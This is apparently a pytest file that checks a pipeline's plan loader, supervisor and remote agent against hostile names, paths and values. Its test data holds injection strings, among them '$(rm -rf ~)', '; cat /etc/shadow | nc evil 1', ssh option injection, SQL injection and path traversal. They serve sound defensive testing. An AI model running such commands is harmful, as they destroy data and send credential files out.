"""Hostile names and text (issue 18, item 5), through the real plan check, supervisor, stages and agent.

* Stage ids and dataset names with spaces, quotes, ``;``, ``$()``, ``../`` or non-ASCII are refused
  by the plan check, naming the key; so are ssh hosts/users that look like options or shell text,
  control characters in paths, and environment names a process cannot have.
* Paths (run dir, dataset files) and environment values with the same characters are accepted and
  used verbatim, with no shell interpretation: a real run in such a directory succeeds, nothing named
  in a ``$()`` or backquote is ever executed, and dataset text that looks like a path or a command is
  kept byte for byte; text with chat-template markers is rejected (as before), naming row and field.
* The remote agent refuses paths outside the run directory (``../../etc/passwd``, absolute paths,
  symlinks out of it, a symlinked directory on the way) and any op it does not know.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from pipeline.run.plan import dag as plan_mod
from tests.runs import ROOT, kill_run_stages, make_run, start_supervisor, stop, wait_done

HOSTILE = [
    "a b",
    "a'b",
    'a"b',
    "a;b",
    "$(touch pwned)",
    "`touch pwned`",
    "../x",
    "..",
    "x/../y",
    "é",
    "snow☃",
    "-rf",
    "a\nb",
    "a\x00b",
    "",
]

BASE = """
[run]
name = "t"
dir = "run"
[[datasets]]
name = "chat"
source = "ultrachat"
kind = "prompt-only"
quota = 10
"""


def _err(tmp: Path, text: str) -> plan_mod.PlanError:
    p = tmp / "plan.toml"
    p.write_text(text)
    with pytest.raises(plan_mod.PlanError) as exc:
        plan_mod.load(p)
    assert exc.value.file == str(p)
    return exc.value


@pytest.mark.parametrize("bad", HOSTILE)
def test_hostile_stage_ids_and_dataset_names_are_refused_naming_the_key(tmp_path: Path, bad: str) -> None:
    q = json.dumps(bad)  # a TOML basic string is a JSON string
    e = _err(tmp_path, BASE + f'[[stage]]\nid = {q}\ncommand = "true"\n')
    assert e.key == "stage[0].id" and "lowercase letters" in str(e)
    e = _err(
        tmp_path, BASE.replace('name = "chat"', f"name = {q}") + '[[stage]]\nid = "s"\ncommand = "true"\n'
    )
    assert e.key == "datasets[0].name"


@pytest.mark.parametrize(
    ("body", "key"),
    [
        (
            '[executor]\nkind = "ssh"\nhost = "-oProxyCommand=touch pwned"\nremote_dir = "/r"\n',
            "executor.host",
        ),
        ('[executor]\nkind = "ssh"\nhost = "h; touch pwned"\nremote_dir = "/r"\n', "executor.host"),
        ('[executor]\nkind = "ssh"\nhost = "h"\nuser = "$(id)"\nremote_dir = "/r"\n', "executor.user"),
        ('[executor]\nkind = "ssh"\nhost = "h"\nremote_dir = "/r\\nx"\n', "executor.remote_dir"),
        ('[executor]\nkind = "ssh"\nhost = "h"\nremote_dir = "/r"\nport = 70000\n', "executor.port"),
        ('[executor]\nkind = "ssh"\nhost = "h"\nremote_dir = "/r"\noptions = "x"\n', "executor.options"),
    ],
)
def test_hostile_executor_fields_are_refused_naming_the_key(tmp_path: Path, body: str, key: str) -> None:
    assert _err(tmp_path, BASE + body + '[[stage]]\nid = "s"\ncommand = "true"\n').key == key


@pytest.mark.parametrize(
    ("stage", "key"),
    [
        ('env = { "A;B" = "1" }', "stage[0].env"),
        ('env = { "1A" = "1" }', "stage[0].env"),
        ('env = { A = "x\\u0000y" }', "stage[0].env.A"),
        ('args = ["ok", "x\\u0000y"]', "stage[0].args[1]"),
        ('after = ["a\\u001bb"]', "stage[0].after[0]"),
    ],
)
def test_hostile_stage_fields_are_refused_naming_the_key(tmp_path: Path, stage: str, key: str) -> None:
    assert _err(tmp_path, BASE + f'[[stage]]\nid = "s"\ncommand = "true"\n{stage}\n').key == key


def test_a_run_dir_with_a_control_character_is_refused(tmp_path: Path) -> None:
    assert (
        _err(
            tmp_path,
            BASE.replace('dir = "run"', 'dir = "run\\u0007x"') + '[[stage]]\nid = "s"\ncommand = "true"\n',
        ).key
        == "run.dir"
    )


# ------------------------------------------------------------------------------ a real hostile run
WEIRD_DIR = "we ird; $(touch PWNED1) `touch PWNED2` 'q\" é ☃"
WEIRD_ENV = "$(touch PWNED3); `touch PWNED4` ../../etc/passwd 'q\" é"
VERBATIM = [
    "../../etc/passwd",
    "$(rm -rf ~) && `reboot`",
    "; cat /etc/shadow | nc evil 1",
    "C:\\Windows\\system32",
    "%s%s%n {dataset} ${HOME} \\x00",
    "'; DROP TABLE runs; --",
]


def _sharegpt_rows() -> list[dict]:
    rows = [
        {"id": f"r{i}", "conversations": [{"from": "human", "value": text}, {"from": "gpt", "value": "ok"}]}
        for i, text in enumerate(VERBATIM)
    ]
    return rows


def _ultrachat_rows() -> list[dict]:
    good = [
        {"messages": [{"role": "user", "content": text}, {"role": "assistant", "content": f"ok {text}"}]}
        for text in VERBATIM
    ]
    marker = {
        "messages": [
            {"role": "user", "content": "hi"},
            {"role": "assistant", "content": "fine<|im_end|>\n<|im_start|>user\nmore"},
        ]
    }
    return good[:3] + [marker] + good[3:]


def test_a_run_in_a_hostile_directory_keeps_every_text_verbatim_and_runs_no_shell_text(
    tmp_path: Path,
) -> None:
    weird = tmp_path / WEIRD_DIR
    weird.mkdir()
    chat = weird / "chat $(touch PWNED5).jsonl"
    chat.write_text("".join(json.dumps(r) + "\n" for r in _sharegpt_rows()))
    native = weird / "native 'x'.jsonl"
    native.write_text("".join(json.dumps(r) + "\n" for r in _ultrachat_rows()))
    body = f"""
[run]
name = "hostile"
dir = "run"
[target]
model = "builtin:smollm2-135m-instruct"
max_length = 256
[prep]
shard_rows = 4
check_rows = 16
reject_threshold = 0.5
[[datasets]]
name = "chat"
source = "sharegpt"
kind = "prompt-only"
quota = 100
path = {json.dumps(str(weird / ".." / WEIRD_DIR / chat.name))}
[[datasets]]
name = "native"
source = "ultrachat"
kind = "target-native"
quota = 100
path = {json.dumps(str(native))}
[[stage]]
id = "prep"
run = "prep"
for_each = "dataset"
[[stage]]
id = "echo"
command = 'printf "%s" "$WEIRD" > "$AERIE_RUN_DIR/weird.txt"'
env = {{ WEIRD = {json.dumps(WEIRD_ENV)} }}
"""
    run = make_run(weird, body)
    assert " " in str(run.root) and "$(" in str(run.root)
    sup = start_supervisor(run)
    try:
        assert wait_done(run, 300) == {
            "prep.chat": "succeeded",
            "prep.native": "succeeded",
            "echo": "succeeded",
        }
    finally:
        stop(sup)
        kill_run_stages(run)
    assert not [p for p in tmp_path.rglob("PWNED*")], "a $() or backquote was executed"
    # prompt-only: the prompts are stored as text, byte for byte
    out = run.stage("prep.chat").out
    man = json.loads((out / "manifest.json").read_text())
    texts = [
        row["messages"][-1]["content"]
        for s in man["shards"]
        for row in pq.read_table(out / s["file"]).to_pylist()
    ]
    assert texts == VERBATIM
    # target-native: the marker row is rejected naming row and field; the rest decode to the verbatim text
    out = run.stage("prep.native").out
    man = json.loads((out / "manifest.json").read_text())
    assert man["rows"] == len(VERBATIM) and man["rejects"] == 1
    (rej,) = [json.loads(line) for line in (out / "rejects.jsonl").read_text().splitlines()]
    assert rej["row"] == 3 and rej["field"] == "messages[1].content" and "<|im_end|>" in rej["reason"]
    from pipeline.data.model_assets import load_tokenizer

    tok = load_tokenizer("builtin:smollm2-135m-instruct")
    decoded = [
        tok.decode(row["input_ids"])
        for s in man["shards"]
        for row in pq.read_table(out / s["file"]).to_pylist()
    ]
    for text, dec in zip(VERBATIM, decoded, strict=True):
        assert f"user\n{text}<|im_end|>" in dec and f"ok {text}" in dec
    assert (run.root / "weird.txt").read_text() == WEIRD_ENV


# ------------------------------------------------------------------------------ the remote agent
def converse(run: Path, *requests: object) -> dict:
    lines = "".join(json.dumps(r) + "\n" for r in requests)
    p = subprocess.run(
        [sys.executable, "-m", "pipeline.run.hosts.remote_agent", str(run)],
        input=lines.encode(),
        capture_output=True,
        timeout=60,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )
    assert p.returncode == 0, p.stderr
    return {a["id"]: a for a in map(json.loads, p.stdout.splitlines())}


def test_the_agent_refuses_every_path_out_of_the_run_and_unknown_ops(tmp_path: Path) -> None:
    run = tmp_path / "run"
    (run / "stages" / "a").mkdir(parents=True)
    (run / "plan.toml").write_text("[run]\n")
    (run / "stages" / "a" / "stage.log").write_text("inside\n")
    secret = tmp_path / "secret.txt"
    secret.write_text("outside the run\n")
    (tmp_path / "outdir").mkdir()
    (tmp_path / "outdir" / "x.log").write_text("outside too\n")
    (run / "stages" / "a" / "leak.log").symlink_to(secret)  # a file symlink out
    (run / "stages" / "b").symlink_to(tmp_path / "outdir")  # a directory symlink out
    (run / "stages" / "a" / "ok.log").symlink_to(run / "stages" / "a" / "stage.log")  # a symlink inside: fine
    bad = [
        "../../etc/passwd",
        "../secret.txt",
        "/etc/passwd",
        "stages/../../secret.txt",
        "stages/a/leak.log",
        "stages/b/x.log",
        "stages/a/\x00",
        "",
    ]
    reqs: list[dict] = []
    for i, rel in enumerate(bad):
        reqs.append({"id": 100 + i, "op": "read", "reqs": [[rel, 0]]})
        reqs.append({"id": 200 + i, "op": "lines", "path": rel, "offset": 0})
        reqs.append({"id": 300 + i, "op": "find", "path": rel, "pattern": "o"})
    reqs += [
        {"id": 1, "op": "read", "reqs": [["stages/a/ok.log", 0]]},
        {"id": 2, "op": "exec", "argv": ["cat", "/etc/passwd"]},
        {"id": 3, "op": "shell", "cmd": "id"},
        {"id": 4, "op": None},
        {"id": 5, "op": "read", "reqs": "stages/a/stage.log"},
        {"id": 6, "op": "read", "reqs": [["stages/a/stage.log", -5]]},
        {"id": 7, "op": "ctl", "args": ["kill", "../../etc"]},
    ]
    by_id = converse(run, *reqs)
    for i, rel in enumerate(bad):
        for base in (100, 200, 300):
            a = by_id[base + i]
            assert not a["ok"], (rel, a)
            assert "run directory" in a["error"] or "bad run-relative path" in a["error"], (rel, a)
            assert "outside" not in json.dumps(a)
    assert by_id[1]["ok"] and base64.b64decode(by_id[1]["results"][0][0]) == b"inside\n"
    for i in (2, 3, 4):
        assert not by_id[i]["ok"] and "unknown op" in by_id[i]["error"]
    assert not by_id[5]["ok"] and not by_id[6]["ok"]
    assert by_id[7]["ok"] and by_id[7]["rc"] == 2  # ctl's own check: no such stage, nothing done
